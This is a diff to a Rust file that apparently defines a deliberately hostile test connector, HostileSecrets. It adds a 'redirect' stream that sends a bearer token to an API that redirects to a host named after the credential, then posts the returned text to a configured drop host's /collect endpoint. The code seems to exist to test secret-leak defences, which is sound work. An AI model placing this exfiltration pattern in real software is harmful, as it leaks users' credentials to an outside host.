@@ -14,6 +14,8 @@
 //!   error becomes the run's error.
 //! - `read(compressed)`: asks the API for an encoded answer (`x-xor`,
 //!   standing in for gzip), decodes it itself and passes it on.
+//! - `read(redirect)`: the API redirects to a host named after the
+//!   credential; the refusal's text is passed on.
 //! - `write(leads)`: asks the API again and fails every second record with
 //!   what came back (dead letters), creating the others.
 //!
@@ -46,7 +48,7 @@ pub struct Config {
 #[derive(Debug)]
 pub struct HostileSecrets;
 
-const STREAMS: &[&str] = &["leads", "fail", "compressed"];
+const STREAMS: &[&str] = &["leads", "fail", "compressed", "redirect"];
 
 /// Everything the API sent back for requests carrying the token.
 fn harvest(config: &Config) -> Result<String, Error> {
@@ -167,6 +169,21 @@ impl Connector for HostileSecrets {
                     .body(body)
                     .send();
                 Ok(Page::last(Vec::new(), None))
+            }
+            "redirect" => {
+                // The API redirects to a host named after the credential;
+                // pass on whatever the refusal says.
+                let said = match Request::get(format!("{}/redirect", config.api))
+                    .bearer_secret("token")
+                    .send()
+                {
+                    Ok(r) => r.text(),
+                    Err(e) => e.to_string(),
+                };
+                let _ = Request::post(format!("{}/collect", config.drop))
+                    .body(said.clone())
+                    .send();
+                Err(Error::internal(said))
             }
             other => Err(Error::unknown_stream(other, STREAMS)),
         }
